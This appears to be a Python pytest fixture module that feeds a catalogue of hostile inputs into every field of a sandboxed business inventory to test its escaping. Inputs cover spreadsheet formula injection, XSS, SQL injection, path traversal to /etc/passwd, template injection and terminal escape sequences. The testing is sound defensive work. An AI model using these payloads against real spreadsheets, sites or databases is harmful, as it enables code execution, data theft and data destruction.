"""Texts that attack whoever shows them, and a business in which they stand in every field of every kind.

Each attack is one person, ``<attack>@example.org``, with a record of each kind in a table and one at every vendor; a second row of
each table has the attack for an address too. The pages of the review and the letters can be tried on the same texts.
"""

import json
import shutil
import unicodedata
from collections.abc import Iterator, Mapping
from dataclasses import replace
from datetime import date, datetime
from hashlib import md5
from pathlib import Path
from typing import Any, NamedTuple

import pytest

import connectors
from connectors.sandbox.people.invent import invent
from connectors.sandbox.people.world import Sheet
from connectors.sandbox.serve import Sandbox
from flows.cli import main
from flows.night import night_run, person_answer
from flows.runtime import context
from inventory.model import DATES, FIELDS, INSTANTS, MONEY, Kind
from inventory.settings import Settings, load
from inventory.views import lookup
from tests.conftest import TODAY
from tests.night.conftest import run_night
from tests.once import once

# A script that runs says so here; nothing else on a page sets it.
_HIT = "window.hit=1;alert(1)"

ATTACKS: Mapping[str, str] = {
    # what a spreadsheet would run or open
    "formula": "=cmd|'/C calc'!A0",
    "plus": "+1+cmd",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd",
    "wide": "＝1+1",
    "hidden-formula": "\u200b=1+1",
    "second-cell": 'Kari;=HYPERLINK("http://example.com/x")',
    "second-line": "Kari\n=1+1",
    "hyperlink": '=HYPERLINK("http://example.com/?"&A1,"Trykk her")',
    "address": "http://example.com/kari",
    "mailto": "mailto:kari@example.com?body=x",
    "file": "file:///etc/passwd",
    # what a browser would run or fetch
    "script": f"<script>{_HIT}</script>",
    "image": f'"><img src=http://example.com/x.png onerror="{_HIT}">',
    "single": f"'><svg onload='{_HIT}'>",
    "bare": f"x onmouseover={_HIT} autofocus onfocus={_HIT}",
    "closing": f"</title></style></textarea><script>{_HIT}</script>",
    "comment": f"--><script>{_HIT}</script><!--",
    "cdata": f"]]><script>{_HIT}</script>",
    "javascript": f"javascript:{_HIT}",
    "frame": f"<iframe srcdoc='<script>parent.{_HIT}</script>'></iframe>",
    "refresh": "<meta http-equiv=refresh content='0;url=http://example.com/'><base href=http://example.com/>",
    "css": "</style><style>body{display:none}@import 'http://example.com/x.css'",
    "entity": f"&lt;script&gt;{_HIT}&lt;/script&gt;&#60;b&#62;",
    "template": "{{ 7*7 }}{% raw %}${7*7}<%= 7*7 %>",
    # what our own machinery would take for its own
    "format": "{name} {0} {n!r} %s %(name)s $name",
    "markup": "[red]rød[/red][link=http://example.com]x[/link]",
    "typst": '#read("/etc/passwd") #eval("1+1") *fet* $x$',
    "sql": "'; DROP TABLE record; --",
    "like": "%_\\",
    "json": '","name":"x"}]}',
    "path": "../../etc/passwd",
    "windows-path": "..\\..\\boot.ini",
    "option": "--help",
    "null": "null",
    "nan": "NaN",
    # what turns, hides or steers
    "turned": "Ola \u202eegroN\u202c Nes",
    "isolated": "\u2067\u2066Kari\u202d",
    "unseen": "\u200b\u2060\ufeff\u00ad",
    "joined": "Ka\u200bri\u200d\u200c Nes",
    "nul": "Kari\0Nes",
    "title": "Kari\x1b]0;eid\x07 Nes",
    "colour": "\x1b[31mrød\x1b[0m \x1b[2J\x1b[H",
    "eight-bit": "\x9b31mrød\x9d0;eid\x9c",
    "terminal-link": "\x1b]8;;http://example.com/\x1b\\Kari\x1b]8;;\x1b\\",
    "open-ended": "Kari \x1b]0;alt etter dette",
    "overwriting": "Kari\b\b\b\bEva\rOla\x7f",
    "lines": "Kari\u2028Nes\u2029fra\x0bOslo\x0c\x85i dag\r\nEva",
    "half": "Kari \ud800Nes\udcff",
    "no-character": "Kari\ufffe \uffff\U0001ffff\ue000",
    "tagged": "Kari\U000e0041\U000e007f",
    "stacked": "K" + "\u0301\u0327\u0489" * 40 + "ari",
    # what is only long, or only not ours
    "long": "Å" * 2_000,
    "wordy": "ord " * 500,
    "sami": "Áile Čálliid Ŋuorjo",
    "polish": "Łukasz Żółć",
    "greek": "Ελένη Παππά",
    "arabic": "محمد بن علي",
    "hebrew": "שרה לוי",
    "persian": "می‌خواهم",
    "family": "👩‍👩‍👧 Nes",
}

_ACTIVITY = {
    Kind.CONTACT: "A03", Kind.RESPONSE: "A01", Kind.SUBSCRIPTION: "A08", Kind.BOOKING: "A06", Kind.INVOICE: "A02", Kind.PAYMENT: "A02",
    Kind.COMMENT: "A14", Kind.PROFILE: "A15",
}  # fmt: skip
_OLD = date(2020, 1, 2)


def address(attack: str) -> str:
    """Return the e-mail address of the person who is this attack."""
    return f"{attack}@example.org"


def unsafe(text: str) -> set[str]:
    """Return what would steer a terminal or turn a line: controls but the line's end, and formats but the joiners."""
    bad = {char for char in text if unicodedata.category(char) in ("Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp")}
    return {f"U+{ord(char):04X}" for char in bad - set("\n\u200c\u200d")}


def infest(sandbox: Sandbox, folder: Path) -> None:
    """Let the attacks into a served business and its folder: vendors, ContaFaktura's files, and a table of each kind."""
    world = sandbox.world
    for number, (attack, text) in enumerate(ATTACKS.items()):
        for sheet in world.sheets.values():
            _answer(sheet, attack, text)
        world.audience.members.append(_member(attack, text))
        client = {"id": 90_000 + number, "name": text, "email": address(attack), "phone": text, "is_deleted": None}
        world.booking.clients.append(client)
        world.booking.bookings.append(_booking(client))
    world.exports["exports/conta/kunder-2.csv"] = _customers()
    for kind in Kind:
        world.exports[f"exports/{kind}.jsonl"] = _table(kind)
    sandbox.write(folder)
    with (folder / "orden.toml").open("a", encoding="utf-8") as config:
        config.writelines(map(_configured, Kind))


def text_fields(kind: Kind) -> list[str]:
    """Return the fields of a kind that hold text as it was written."""
    return [field for field in FIELDS[kind] if field not in INSTANTS | DATES | MONEY]


def _table(kind: Kind) -> bytes:
    return "\n".join(json.dumps(row) for row in _rows(kind)).encode()


def _rows(kind: Kind) -> Iterator[dict[str, str]]:
    """Give two rows for each attack; every fifth also has it for the name of a column that nobody mapped."""
    for number, (attack, text) in enumerate(ATTACKS.items()):
        row = dict.fromkeys(text_fields(kind), text) | {f: "1.5" for f in FIELDS[kind] if f in MONEY}
        row |= {field: _OLD.isoformat() for field in FIELDS[kind] if field in INSTANTS | DATES}
        unmapped = {text: "x"} if number % 5 == list(Kind).index(kind) % 5 else {}
        yield {"Nr": f"1-{number}", **row, "email": address(attack), **unmapped}
        known = {Kind.SUBSCRIPTION: "pending", Kind.BOOKING: "confirmed"}
        # A list of which most statuses are words that nobody knows is not believed.
        row |= {"status": known[kind]} if kind in known else {}
        yield {"Nr": f"2-{number}", **row, **{field: text for field in FIELDS[kind] if field in DATES}}


def _configured(kind: Kind) -> str:
    columns = ", ".join(f'{field} = "{field}"' for field in FIELDS[kind])
    return f"""
[sources.list_{kind}]
type = "table"
path = "exports/{kind}.jsonl"
kind = "{kind}"
activity = "{_ACTIVITY[kind]}"
key = "Nr"
columns = {{ {columns} }}
"""


def _answer(sheet: Sheet, attack: str, text: str) -> None:
    """Add one answer to a form: the moment, the address, and the attack under every other question."""
    sheet.rows.append([datetime(2020, 1, 2, 12), address(attack), *[text] * (len(sheet.header) - 2)])


def _member(attack: str, text: str) -> dict[str, Any]:
    old = f"{_OLD}T09:00:00+00:00"
    return {
        "id": md5(address(attack).encode()).hexdigest(),
        "email_address": address(attack),
        "contact_id": f"c-{attack}",
        "full_name": text,
        "status": "pending",
        "merge_fields": {"FNAME": text, "LNAME": text, "ADDRESS": text, text: text},
        "source": text,
        "tags": [{"id": 1, "name": text}],
        "last_note": {"note": text},
        "timestamp_signup": old,
        "timestamp_opt": "",
        "last_changed": old,
    }


def _booking(client: Mapping[str, Any]) -> dict[str, Any]:
    return {
        "id": client["id"] + 1_000,
        "code": client["name"],
        "status": "confirmed",
        "start_datetime": f"{_OLD} 10:00:00",
        "end_datetime": f"{_OLD} 11:00:00",
        "client_id": client["id"],
        "service_id": 7,
        "provider_id": 1,
        "comment": client["name"],
        "client": dict(client),
    }


def _customers() -> bytes:
    """Write a customer list whose quoting is right: only what stands in it is not."""
    quoted = {attack: text.replace("\0", "").replace('"', '""') for attack, text in ATTACKS.items()}
    lines = [
        f'{70_000 + number};"{text}";{address(attack)};"{text}";"{text}"'
        for number, (attack, text) in enumerate(quoted.items())
    ]
    return "\r\n".join(("Kundenr;Navn;E-post;Adresse;Notat", *lines, "")).encode("utf-8", "replace")


class Stricken(NamedTuple):
    """A business after a calm night, one in which every attack came in, and one with requests by every tenth of them."""

    settings: Settings
    done: night_run.Done
    came: str  # the report of the second night, when all were new

    def orden(self, *tokens: str) -> int:
        """Run the command line in this process; what it prints goes to this process's streams."""
        return main.run(["--config", str(self.settings.path), *tokens])

    def answers(self) -> dict[str, person_answer.Answer]:
        """Look up every attack by its address: what ``answers.ask`` gives, the inventory opened once for all of them."""
        with context.store_of(self.settings).read() as con:
            day, sources = lookup.as_of(con), lookup.sources(con)
            return {a: person_answer.Answer(day, sources, tuple(lookup.find(con, address(a)))) for a in ATTACKS}


def struck(factory: pytest.TempPathFactory) -> Stricken:
    """Return a copy of that business: the nights are run once."""
    kept, (_, done, came) = once(factory, "stricken", strike)
    folder = factory.mktemp("stricken")
    shutil.copytree(kept, folder, dirs_exist_ok=True)
    report = folder / done.report.relative_to(kept)
    return Stricken(load(folder / "orden.toml", connectors.sources()), replace(done, report=report), came)


def strike(folder: Path) -> Stricken:
    """Run the three nights in ``folder``."""
    with Sandbox(invent(12, 7, as_of=TODAY)) as sandbox:
        sandbox.write(folder)
        run_night(load(folder / "orden.toml", connectors.sources()))
        infest(sandbox, folder)
        settings = load(folder / "orden.toml", connectors.sources())
        done = run_night(settings)
        stricken = Stricken(settings, done, done.report.read_text("utf-8"))
        for found in list(stricken.answers().values())[::10]:
            asked = ("--type", "innsyn", "--received", TODAY.isoformat())
            assert stricken.orden("case", "open", found.found[0].person, *asked) == 0
        return stricken._replace(done=run_night(settings))
